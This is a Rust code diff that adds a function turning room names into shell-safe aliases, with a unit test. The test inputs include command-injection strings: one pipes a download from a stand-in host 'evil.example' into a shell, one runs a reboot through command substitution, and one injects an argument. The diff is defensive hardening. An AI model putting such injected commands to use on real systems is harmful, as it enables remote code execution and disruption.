@@ -173,8 +173,7 @@ impl Desk<'_, '_> {
     }
 
     pub(crate) fn free_alias(&self, name: &str) -> Result<String, StorageError> {
-        let plain: String = name.chars().map(|c| if c.is_whitespace() || c.is_control() { '-' } else { c }).collect();
-        let base = if is_good_name(&plain) { plain } else { "room".to_owned() };
+        let base = typeable(name).filter(|plain| is_good_name(plain)).unwrap_or_else(|| "room".to_owned());
         let mut alias = base.clone();
         let mut n = 1;
         while self.batch.room_by_alias(&alias)?.is_some() {
@@ -191,6 +190,14 @@ impl Stored {
         let (numbers, changed) = (Vec::new(), Vec::new());
         Stored { room, numbers, origin: Origin::Local, room_changed: false, changed, turned: false }
     }
+}
+
+/// A room's name as one word that a shell takes as it is: people copy commands with it.
+pub(crate) fn typeable(name: &str) -> Option<String> {
+    let is_plain = |c: char| c.is_alphanumeric() || "-_.+".contains(c);
+    let plain: String = name.chars().map(|c| if is_plain(c) { c } else { '-' }).collect();
+    let plain = plain.trim_matches(['-', '.']);
+    (!plain.is_empty()).then(|| plain.to_owned())
 }
 
 /// The row of a room of which nothing is known but how to see it.
@@ -213,4 +220,24 @@ pub(crate) fn empty_row(room: RoomId, kind: RoomKind, secret: [u8; 32]) -> RoomR
 pub fn is_good_name(name: &str) -> bool {
     let is_short = !name.is_empty() && name.len() <= NAME_LEN_MAX && name.trim() == name;
     is_short && is_one_visible_line(name) && name.parse::<RoomId>().is_err()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::typeable;
+
+    #[test]
+    fn a_rooms_name_becomes_a_word_that_no_shell_reads_into() {
+        for (name, word) in [
+            ("zig", Some("zig")),
+            ("the lab", Some("the-lab")),
+            ("x;curl${IFS}evil.example|sh;", Some("x-curl--IFS-evil.example-sh")),
+            ("--home=/tmp", Some("home--tmp")),
+            ("Küche 2", Some("Küche-2")),
+            ("$(reboot)", Some("reboot")),
+            ("&&", None),
+        ] {
+            assert_eq!(typeable(name).as_deref(), word, "{name}");
+        }
+    }
 }
